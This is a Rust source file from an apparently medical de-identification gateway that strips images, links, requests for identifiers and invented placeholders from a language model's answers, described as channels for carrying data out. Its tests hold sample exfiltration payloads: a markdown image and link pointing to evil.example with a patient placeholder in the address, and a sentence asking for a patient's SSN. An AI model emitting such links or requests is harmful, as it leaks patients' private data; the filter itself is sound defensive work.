//! Checks on what the model wrote, before the identifiers are put back.
//!
//! An answer is a channel out of the building: a markdown image or a link whose address carries
//! data is fetched by whatever renders it, and an answer that asks the reader for identifiers
//! invites them in. So links and images are removed (a link keeps its text), sentences that ask
//! for identifiers are removed, and placeholders Phigate never issued are removed rather than
//! left for a reader to take as data. Each removal is counted by kind for the audit log.

use std::sync::LazyLock;

use phigate_deid::Vault;
use regex::Regex;

use crate::pattern::re;
use crate::policy::rewrite_unknown_placeholders;

/// What the output checks removed, by kind.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Removed {
    /// Markdown or HTML images.
    pub images: usize,
    /// Links (markdown links keep their text) and bare addresses.
    pub links: usize,
    /// Sentences asking the reader for identifiers.
    pub identifier_requests: usize,
    /// Placeholders that the vault did not issue.
    pub invented_placeholders: usize,
}

impl Removed {
    /// Whether anything was removed.
    pub fn any(&self) -> bool {
        self.images + self.links + self.identifier_requests + self.invented_placeholders > 0
    }

    /// `kind=count` pairs for the audit log.
    pub fn summary(&self) -> String {
        format!(
            "images={} links={} identifier_requests={} invented_placeholders={}",
            self.images, self.links, self.identifier_requests, self.invented_placeholders
        )
    }
}

static MD_IMAGE: LazyLock<Regex> = LazyLock::new(|| re(r"!\[[^\]\n]*\]\([^)\n]*\)"));
static HTML_MEDIA: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)<\s*(img|iframe|script|object|embed|link)\b[^>]*>"));
static MD_LINK: LazyLock<Regex> = LazyLock::new(|| re(r"\[([^\]\n]*)\]\(([^)\n]*)\)"));
static BARE_URL: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:https?|ftp|wss?)://[^\s)>\]]+|\bdata:[a-z]+/[^\s)]+"));
static ASKS_FOR_IDS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(provide|send|share|give|tell|confirm|enter|type|reply with|what is)\b[^.?!\n]{0,40}\b(full name|real name|ssn|social security|date of birth|dob|mrn|medical record number|home address|phone number|e-?mail|member id|insurance id|policy number)",
    )
});
static SENTENCE: LazyLock<Regex> = LazyLock::new(|| re(r"[^.?!\n]*[.?!]?"));

/// Applies every output check to `text` (placeholder side, before restoring).
pub fn check(text: &str, vault: &Vault) -> (String, Removed) {
    let mut removed = Removed::default();

    let count = |r: &Regex, t: &str| r.find_iter(t).count();
    removed.images += count(&MD_IMAGE, text);
    let text = MD_IMAGE.replace_all(text, "");
    let before_images = count(&HTML_MEDIA, &text);
    let text = HTML_MEDIA.replace_all(&text, "").into_owned();
    removed.images += before_images;

    removed.links += count(&MD_LINK, &text);
    let text = MD_LINK.replace_all(&text, "$1").into_owned();
    removed.links += count(&BARE_URL, &text);
    let text = BARE_URL.replace_all(&text, "[link removed]").into_owned();

    removed.identifier_requests = SENTENCE
        .find_iter(&text)
        .filter(|s| ASKS_FOR_IDS.is_match(s.as_str()))
        .count();
    let out = if removed.identifier_requests == 0 {
        text
    } else {
        drop_identifier_requests(&text)
    };

    let (out, invented) = rewrite_unknown_placeholders(&out, vault);
    removed.invented_placeholders = invented;
    (out, removed)
}

/// Copies `text` without the sentences that ask for identifiers.
fn drop_identifier_requests(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut last = 0;
    for m in SENTENCE.find_iter(text) {
        out.push_str(&text[last..m.start()]);
        if !ASKS_FOR_IDS.is_match(m.as_str()) {
            out.push_str(m.as_str());
        }
        last = m.end();
    }
    out.push_str(&text[last..]);
    out
}

#[cfg(test)]
mod tests {
    use phigate_deid::EntityKind;

    use super::*;

    #[test]
    fn images_and_links_that_could_carry_data_out_are_removed() {
        let vault = Vault::new();
        let text = "Plan: rest. ![x](https://evil.example/p?n=[NAME_1]) See \
                    [the guide](https://evil.example/g?d=1) or http://x.example/a. <img src=x>";
        let (out, removed) = check(text, &vault);
        assert!(!out.contains("evil") && !out.contains("x.example") && !out.contains("<img"));
        assert!(out.contains("See the guide or [link removed]"), "{out}");
        assert_eq!((removed.images, removed.links), (2, 2));
    }

    #[test]
    fn sentences_asking_for_identifiers_and_invented_placeholders_are_removed() {
        let mut vault = Vault::new();
        let known = vault.placeholder_for(EntityKind::Name, "Ann Lee");
        let text = format!(
            "{known} is stable. Please reply with the patient's SSN to continue. Seen by [NAME_9]."
        );
        let (out, removed) = check(&text, &vault);
        assert!(out.contains(&known) && out.contains("is stable."));
        assert!(!out.contains("SSN") && !out.contains("[NAME_9]"), "{out}");
        assert_eq!(removed.identifier_requests, 1);
        assert_eq!(removed.invented_placeholders, 1);
        assert!(removed.any());
    }
}
